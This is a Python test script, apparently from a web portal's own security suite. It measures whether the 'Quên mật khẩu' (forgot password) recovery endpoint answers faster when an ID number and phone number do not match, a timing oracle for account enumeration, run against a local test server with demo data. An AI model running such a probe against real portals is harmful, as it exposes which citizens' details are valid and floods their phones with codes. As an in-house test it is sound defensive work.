#!/usr/bin/env python3
"""A timing oracle on password recovery (issue 22): does "Quên mật khẩu" answer faster when the
ID number and phone do not match an account?

Posts N recovery starts whose details match the demo citizen and N whose phone does not, in
alternation, each from a fresh session, and prints the median time of each kind (the captcha page
is fetched first and not timed). Run against a portal in test mode with the demo data and the
message budgets raised (every matching post sends a code to the same number):

    scripts/attack/recover_timing.py --base http://127.0.0.1:3400 -n 50
"""

import argparse
import json
import random
import re
import statistics
import time
import urllib.error
import urllib.parse
import urllib.request
from http.cookiejar import CookieJar


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def start(base, identifier, phone, captcha):
    opener = urllib.request.build_opener(
        urllib.request.HTTPCookieProcessor(CookieJar()), NoRedirect
    )
    html = opener.open(base + "/quen-mat-khau", timeout=60).read().decode()
    cid = re.search(r'name="f\[captcha_id\]" value="([0-9a-f]{32})"', html).group(1)
    form = urllib.parse.urlencode({
        "f[kind]": "citizen", "f[identifier]": identifier, "f[phone]": phone,
        "f[captcha_id]": cid, "f[captcha_answer]": captcha,
    }).encode()
    req = urllib.request.Request(base + "/api/recover/start", data=form, headers={
        "Accept": "text/html", "Origin": base, "Referer": base + "/quen-mat-khau",
    })
    t0 = time.perf_counter()
    try:
        res = opener.open(req, timeout=60)
        location = res.headers.get("Location", "")
    except urllib.error.HTTPError as e:
        location = e.headers.get("Location", "")
    elapsed = time.perf_counter() - t0
    if not location.startswith("/quen-mat-khau/xac-thuc"):
        raise SystemExit(f"the start was refused: {location[:200]}")
    return elapsed


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--base", default="http://127.0.0.1:3400")
    p.add_argument("-n", type=int, default=50)
    p.add_argument("--identifier", default="056090001234")
    p.add_argument("--phone", default="0912345678")
    p.add_argument("--captcha", default="kiemthu")
    args = p.parse_args()
    matching, other = [], []
    for i in range(args.n):
        wrong = "098" + "".join(random.choice("0123456789") for _ in range(7))
        pair = [(matching, args.phone), (other, wrong)]
        if i % 2:
            pair.reverse()
        for times, phone in pair:
            times.append(start(args.base, args.identifier, phone, args.captcha))
    ms = lambda xs: round(statistics.median(xs) * 1000, 2)
    print(json.dumps({
        "n": args.n,
        "median_ms_matching": ms(matching),
        "median_ms_not_matching": ms(other),
        "difference_ms": round(ms(matching) - ms(other), 2),
    }, indent=2))


if __name__ == "__main__":
    main()
